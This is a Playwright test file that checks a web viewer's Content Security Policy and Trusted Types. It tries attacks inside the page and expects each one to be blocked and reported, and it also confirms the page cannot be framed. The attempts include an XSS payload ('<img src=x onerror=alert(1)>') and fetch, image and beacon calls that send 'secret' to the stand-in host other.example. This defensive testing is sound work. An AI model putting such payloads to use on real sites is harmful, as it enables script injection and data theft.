import { expect } from '@playwright/test'
import { Viewer } from './viewer.ts'
import { takeMisdeeds, test } from './watched.ts'

/** What a page might try, were a name or a link to get hold of it, and what the test is told of it. */
const attempts: { what: string; attempt: () => unknown; told: RegExp }[] = [
  { what: 'a script by its address', attempt: () => new Worker('samples/cyc.txt'), told: /require-trusted-types-for/ },
  {
    what: 'another script beside the page',
    attempt: () => {
      const script = document.createElement('script')
      script.setAttribute('src', 'https://other.example/a.js')
      document.body.append(script)
    },
    told: /require-trusted-types-for/,
  },
  {
    what: 'text as HTML',
    attempt: () => {
      document.body.innerHTML = '<img src=x onerror=alert(1)>'
    },
    told: /require-trusted-types-for/,
  },
  {
    what: 'trust in something else',
    attempt: () => (window as unknown as { trustedTypes: TrustedTypePolicies }).trustedTypes.createPolicy('mine', {}),
    told: /trusted-types/,
  },
  {
    what: 'text as a script',
    attempt: () => setTimeout(() => new Function('return 1')), // what a test says itself is exempt
    told: /script-src|require-trusted-types-for/,
  },
  {
    what: 'styles in attributes',
    attempt: () => document.body.setAttribute('style', 'color: red'),
    told: /style-src-attr/,
  },
  { what: 'a request elsewhere', attempt: () => fetch('https://other.example/?secret'), told: /connect-src/ },
  {
    what: 'a picture from elsewhere',
    attempt: () => {
      new Image().src = 'https://other.example/?secret'
    },
    told: /img-src/,
  },
  { what: 'a message to its own host', attempt: () => navigator.sendBeacon('x', 'secret'), told: /^request: POST/ },
  { what: 'a question to its own host', attempt: () => fetch('index.html?secret'), told: /^request: GET .*\?secret/ },
  { what: 'a sample nobody asked for', attempt: () => fetch('samples/cyc.txt'), told: /^request: GET .*cyc\.txt/ },
  { what: 'a window', attempt: () => window.open('about:blank'), told: /^window: / },
]

interface TrustedTypePolicies {
  createPolicy(name: string, rules: object): unknown
}

for (const { what, attempt, told } of attempts)
  test(`${what}: the page may not, and a test would fail that saw it`, async ({ page }) => {
    const viewer = new Viewer(page)
    await viewer.visit()
    await expect(page.getByRole('link', { name: /PostgreSQL WAL sender/ })).toBeVisible()
    expect(takeMisdeeds()).toEqual([])
    await page.evaluate(attempt).catch(() => {})
    const misdeeds: string[] = []
    await expect
      .poll(() => {
        misdeeds.push(...takeMisdeeds())
        return misdeeds.some(misdeed => told.test(misdeed))
      })
      .toBe(true)
    await page.close()
    takeMisdeeds()
  })

test('no other page can show this one in a frame', async ({ page, baseURL }) => {
  await page.route('**/framing', route => route.fulfill({ contentType: 'text/html', body: `<iframe src="/">` }))
  await page.goto(`${baseURL}framing`)
  await expect(page.frameLocator('iframe').getByText('See where the time went')).toHaveCount(0)
  const [, frame] = page.frames()
  expect(frame.url()).toMatch(/^chrome-error:/)
})
